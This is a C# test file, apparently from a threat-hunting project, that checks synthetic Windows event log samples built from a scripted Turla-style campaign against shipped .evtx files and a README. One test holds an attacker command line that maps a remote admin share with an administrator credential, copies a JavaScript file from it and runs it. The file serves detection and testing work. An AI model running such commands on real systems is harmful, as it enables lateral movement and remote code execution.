using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using TurlaHunt.Tests.Writing;
using Xunit;

namespace TurlaHunt.Tests.Samples;

/// <summary>The sample logs that ship with the module are the ones that the story gives.</summary>
/// <remarks>
/// After a change of the story, or of the writer's layout, run these tests once with the environment variable
/// TURLAHUNT_WRITE_SAMPLES=1: they then write the files instead of comparing them.
/// </remarks>
public sealed class SampleTests
{
    private const string WriteSwitch = "TURLAHUNT_WRITE_SAMPLES";

    public static TheoryData<string> Files => [.. TopinambourStory.Tell().Select(channel => channel.FileName)];

    [Theory]
    [MemberData(nameof(Files))]
    public void A_sample_is_what_the_story_gives(string file)
    {
        byte[] told = Told(file);
        string path = Path.Combine(SampleFolder(), file);
        if (Environment.GetEnvironmentVariable(WriteSwitch) == "1")
        {
            File.WriteAllBytes(path, told);
        }

        Assert.True(File.Exists(path), $"{path} is missing: run once with {WriteSwitch}=1.");
        Assert.True(
            told.SequenceEqual(File.ReadAllBytes(path)),
            $"{file} is not what the story gives: run once with {WriteSwitch}=1.");
    }

    [Fact]
    public void There_is_no_sample_without_a_story() =>
        Assert.Equal(
            TopinambourStory.Tell().Select(channel => channel.FileName).OrderBy(name => name, StringComparer.Ordinal),
            Directory.GetFiles(SampleFolder(), "*.evtx")
                .Select(Path.GetFileName).OrderBy(name => name, StringComparer.Ordinal));

    [Theory]
    [MemberData(nameof(Files))]
    public void Both_readers_see_every_record_of_a_sample(string file)
    {
        byte[] told = Told(file);
        int expected = new RawLog(told).Chunks.Sum(chunk => chunk.Records.Count);
        foreach (Func<byte[], XElement[]> reader in IndependentReaders.Both)
        {
            XElement[] read = reader(told);
            Assert.Equal(expected, read.Length);
            Assert.All(read, item => Assert.Equal(SampleHost.Computer, EventXml.System(item, "Computer")));
        }
    }

    [Fact]
    public void The_two_lines_of_the_campaign_are_in_the_audit_log()
    {
        string[] lines =
        [
            .. IndependentReaders.EvtxExport(Told("Security.evtx"))
                .Where(item => EventXml.System(item, "EventID") == "4688")
                .Select(item => EventXml.Data(item, "CommandLine")),
        ];
        Assert.Contains(
            @"cmd.exe /c net use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator"
            + @" & copy /y \\197.168.0.247\c$\users\public\documents\i.js C:\Users\m.weber\Documents\j.js"
            + @" & C:\Users\m.weber\Documents\j.js",
            lines);
        Assert.Contains(@"net  use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator ", lines);
    }

    [Fact]
    public void The_readme_names_records_that_are_there()
    {
        (string Log, string Record, string Event)[] rows =
        [
            .. File.ReadLines(Path.Combine(SampleFolder(), "README.md"))
                .Select(line => Regex.Match(line, @"^\| (\w+) \| (\d+) \| (\d+) \|"))
                .Where(match => match.Success)
                .Select(match => (match.Groups[1].Value, match.Groups[2].Value, match.Groups[3].Value)),
        ];
        Assert.True(rows.Length > 20);
        foreach (IGrouping<string, (string Log, string Record, string Event)> log in rows.GroupBy(row => row.Log))
        {
            SampleChannel channel = TopinambourStory.Tell().Single(channel =>
                channel.FileName.StartsWith(log.Key + ".", StringComparison.Ordinal)
                || channel.FileName.StartsWith($"Microsoft-Windows-{log.Key}%", StringComparison.Ordinal));
            Dictionary<string, string> events = IndependentReaders.EvtxExport(channel.ToLog())
                .ToDictionary(item => EventXml.System(item, "EventRecordID"), item => EventXml.System(item, "EventID"));
            Assert.All(log, row => Assert.Equal(row.Event, events[row.Record]));
        }
    }

    private static byte[] Told(string file) =>
        TopinambourStory.Tell().Single(channel => channel.FileName == file).ToLog();

    private static string SampleFolder()
    {
        for (string? folder = AppContext.BaseDirectory; folder is not null; folder = Path.GetDirectoryName(folder))
        {
            string samples = Path.Combine(folder, "module", "samples");
            if (File.Exists(Path.Combine(folder, "TurlaHunt.sln")))
            {
                return Directory.CreateDirectory(samples).FullName;
            }
        }

        throw new DirectoryNotFoundException($"No module/samples above {AppContext.BaseDirectory}.");
    }
}
